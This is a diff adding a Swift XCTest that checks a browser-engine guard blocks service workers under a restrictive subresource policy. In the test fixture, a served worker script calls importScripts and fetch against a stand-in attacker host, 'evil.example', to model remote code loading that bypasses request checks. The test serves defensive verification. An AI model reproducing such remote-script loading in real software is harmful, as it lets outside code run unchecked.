@@ -202,6 +202,51 @@ final class WebProcessGuardTests: XCTestCase {
         }
     }
 
+    /// Service workers run only in a secure context, which a page on 127.0.0.1 is (a proxied
+    /// http://apple.com is not, so the test above cannot see them). A service worker's
+    /// importScripts, install-time fetches and respondWith go through its own loader, outside
+    /// send-request: with `subresources=policy` the page gets no `navigator.serviceWorker`, and
+    /// the worker's script is never even asked for; with `allow` the same page registers it (so
+    /// the test can fail).
+    @MainActor private static func serviceWorker(_ subresources: SubresourcePolicy) -> (state: String, scriptRequests: Int) {
+        let server = TestServer()
+        defer { server.stop() }
+        server.route = { request in
+            switch request.path {
+            case "/sw.js": return .body("try { importScripts('http://evil.example/imported.js'); } catch (x) {} self.oninstall = function(e) { e.waitUntil(fetch('http://evil.example/install').catch(function(){})); };",
+                                        mimeType: "text/javascript")
+            default: return .html(page("Local", """
+                <script>
+                var state = 'waiting';
+                if (!('serviceWorker' in navigator)) { state = 'absent'; }
+                else navigator.serviceWorker.register('/sw.js').then(function(){ state = 'registered'; }, function(e){ state = 'failed: ' + e; });
+                </script>
+                """))
+            }
+        }
+        let local = Site(name: "Local", address: server.url("/"))
+        let window = TestApp.window(sites: [local], decide: { _ in .allowed("the test lets the web process decide alone") })
+        defer { TestApp.close(window) }
+        TestApp.engine.webProcessPolicy = WebProcessPolicy(sites: [local], subresources: subresources)
+        window.load(url: server.url("/"))
+        var state = "waiting"
+        XCTAssertTrue(UI.wait { state = UI.evaluate("state", in: window) ?? "waiting"; return state != "waiting" }, "the page says what became of its service worker")
+        window.load(url: server.url("/sentinel"))
+        XCTAssertTrue(UI.wait { server.count(path: "/sentinel") > 0 })
+        return (state, server.count(path: "/sw.js"))
+    }
+
+    func testNoServiceWorkerWithSubresourcesPolicyInASecureContext() {
+        MainActor.assumeIsolated {
+            let contained = Self.serviceWorker(.policy)
+            XCTAssertEqual(contained.state, "absent", "navigator.serviceWorker is not offered")
+            XCTAssertEqual(contained.scriptRequests, 0, "the worker's script was never fetched")
+            let open = Self.serviceWorker(.allow)
+            XCTAssertEqual(open.state, "registered", "with subresources=allow the same page registers its worker")
+            XCTAssertEqual(open.scriptRequests, 1)
+        }
+    }
+
     func testAReloadedPolicyReachesARunningWebProcess() {
         MainActor.assumeIsolated {
             let fixture = Fixture(subresources: .policy, routes: ["apple.com/": .html(page("Apple"))])
